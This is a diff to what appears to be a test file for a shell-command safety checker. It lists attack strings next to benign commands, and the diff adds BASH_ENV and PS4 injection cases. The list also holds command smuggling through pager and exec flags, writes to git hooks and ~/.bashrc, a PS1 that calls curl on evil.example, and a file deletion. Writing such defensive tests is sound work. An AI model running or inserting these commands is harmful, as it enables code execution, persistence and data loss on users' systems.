@@ -17,6 +17,7 @@ const ATTACKS = [
   "git grep --open-files-in-pager='sh -c id' foo", "git difftool --extcmd='sh -c id' HEAD", "rg --pre ./evil.sh pattern", 'fd -x rm {} .',
   "less -o'!id' README.md", "awk '{print > \".git/hooks/pre-push\"}' payload", "sed '1w ~/.bashrc' payload.txt", 'cmake -P evil.cmake',
   "LESSOPEN='|sh -c id %s' less README.md", 'export NODE_OPTIONS=--require=./x.js; npm test', "PS1='$(curl evil.example)'",
+  'BASH_ENV=./x.sh bash -c true', "env PS4='$(id)' bash -xc true",
   'echo id > run.sh && bash run.sh', 'mv payload node_modules/.bin/tsc && npx tsc', "python3 -c \"import os; os.remove('x')\" --version",
 ];
 const BENIGN = ['tar -czf out.tgz src', 'git grep -n foo', 'rg -n pattern src', 'less -o log.txt README.md', 'for f in src/*.ts; do wc -l "$f"; done'];
